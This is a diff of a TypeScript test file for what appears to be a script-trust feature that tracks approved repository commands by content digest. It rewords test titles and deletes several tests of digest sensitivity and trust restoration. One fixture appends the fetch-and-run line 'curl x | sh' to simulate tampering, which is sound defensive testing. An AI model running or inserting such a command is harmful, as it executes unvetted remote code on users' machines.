@@ -25,38 +25,25 @@ describe('digestRunnable', () => {
     ['one byte more', init, { ...init, content: `${init.content} ` }, false],
     ['one byte of another value', init, { ...init, content: init.content.replace('ci', 'cc') }, false],
     ['the same bytes in another file', init, { ...init, name: '.forge/other.sh' }, false],
-    ['the same words of another feature', test, { ...test, name: 'feature B' }, true],
-    ['other words', test, { ...test, content: 'npm  test' }, false],
+    ['the same command of another feature', test, { ...test, name: 'feature B' }, true],
+    ['another command', test, { ...test, content: 'npm  test' }, false],
     [
-      'a file that says what a command says',
+      'a file with the content of a command',
       { ...init, name: '', content: 'x' },
       { kind: 'command', name: '', content: 'x' },
       false,
     ],
-  ])('B-86 takes %s', (_name, a, b, same) => {
+  ])('B-86 compares %s', (_name, a, b, same) => {
     expect(digestRunnable(a) === digestRunnable(b)).toBe(same);
   });
 });
 
 describe('digestAll', () => {
-  it('B-88 is the same whatever the order, and however often a command stands there', () => {
+  it('B-88 ignores the order and repeated commands', () => {
     const again = { ...test, name: 'feature B' };
     expect(digestAll('l', [init, test])).toBe(digestAll('l', [again, test, init, test]));
     expect(digestAll('l', [init, test])).toMatch(/^[0-9a-f]{64}$/);
     expect(digestAll('l', [init])).not.toBe(digestAll('m', [init]));
-  });
-
-  it('B-88 changes with each byte that would run', () => {
-    const all = [
-      [],
-      [init],
-      [test],
-      [init, test],
-      [init, { ...test, content: 'npm test ' }],
-      [init, { ...test, content: 'npm tesT' }],
-      [{ ...init, content: '' }, test],
-    ];
-    expect(new Set(all.map((each) => digestAll('l', each))).size).toBe(all.length);
   });
 });
 
@@ -65,7 +52,7 @@ describe('approvedBy', () => {
   const approved = (value: string, ledger: string, all: Runnable[]): Runnable[] =>
     all.filter(approvedBy(value, ledger, all));
 
-  it('B-88 takes the value of a part after something else was added, and no value of another repository', () => {
+  it('B-88 stays valid after something else was added, but not in another repository', () => {
     const value = trustValue('l', [init, test]);
     expect(approved(value, 'l', [init, test])).toEqual([init, test]);
     expect(approved(value, 'l', [init, test, other])).toEqual([init, test]);
@@ -81,20 +68,13 @@ describe('judgeTrust', () => {
   const state = (runnables: Runnable[], approvals: Approval[]) =>
     judgeTrust(runnables, approvals).map((item) => item.state);
 
-  it('B-85 trusts nothing that came with a clone', () => {
+  it('B-85 trusts only what was approved or entered here', () => {
     expect(state([init, test], [])).toEqual(['new', 'new']);
-  });
-
-  it('B-85 trusts what was approved or entered here, and that alone', () => {
     expect(state([init, test], [approve(init)])).toEqual(['trusted', 'new']);
     expect(state([init, test], [approve(test, 'entered')])).toEqual(['new', 'trusted']);
   });
 
-  it('B-85 trusts a command by its words, wherever it moves to', () => {
-    expect(state([{ ...test, name: 'feature B' }], [approve(test)])).toEqual(['trusted']);
-  });
-
-  it('B-86 takes trust back at one changed byte, and remembers what was approved', () => {
+  it('B-86 distrusts one changed byte, and keeps what was approved', () => {
     const changed = { ...init, content: `${init.content}curl x | sh\n` };
     const older = { ...init, content: 'older' };
     const [item] = judgeTrust([changed], [approve(older), approve(init)]);
@@ -106,11 +86,7 @@ describe('judgeTrust', () => {
     });
   });
 
-  it('B-86 trusts again when the change is taken back', () => {
-    expect(state([init], [approve(init), approve({ ...init, content: 'x' })])).toEqual(['trusted']);
-  });
-
-  it('B-86 a file and a command of one name are two things', () => {
+  it('B-86 distinguishes a file and a command with the same name', () => {
     expect(state([{ ...test, name: init.name }], [approve(init)])).toEqual(['new']);
   });
 });
@@ -122,14 +98,14 @@ describe('diffLines', () => {
     ['a removed line', 'a\nb\nc', 'a\nc', [' a', '-b', ' c']],
     ['a line added at the end', 'a\n', 'a\nb\n', [' a', '+b', ' ']],
     ['a line added at the start', 'b', 'a\nb', ['+a', ' b']],
-    ['a line doubled', 'a\nb', 'a\na\nb', [' a', '+a', ' b']],
-    ['all of it', 'a', 'b', ['-a', '+b']],
+    ['a duplicated line', 'a\nb', 'a\na\nb', [' a', '+a', ' b']],
+    ['everything', 'a', 'b', ['-a', '+b']],
     ['a final line feed', 'a', 'a\n', [' a', '+']],
   ])('B-86 shows %s', (_name, before, after, lines) => {
     expect(diffLines(before, after)).toEqual(lines);
   });
 
-  it('B-86 hides nothing: what it takes away and adds makes the one text the other', () => {
+  it('B-86 hides nothing: the diff turns one text into the other', () => {
     const text = fc
       .array(fc.constantFrom('a', 'b', 'c', ''), { maxLength: 8 })
       .map((lines) => lines.join('\n'));
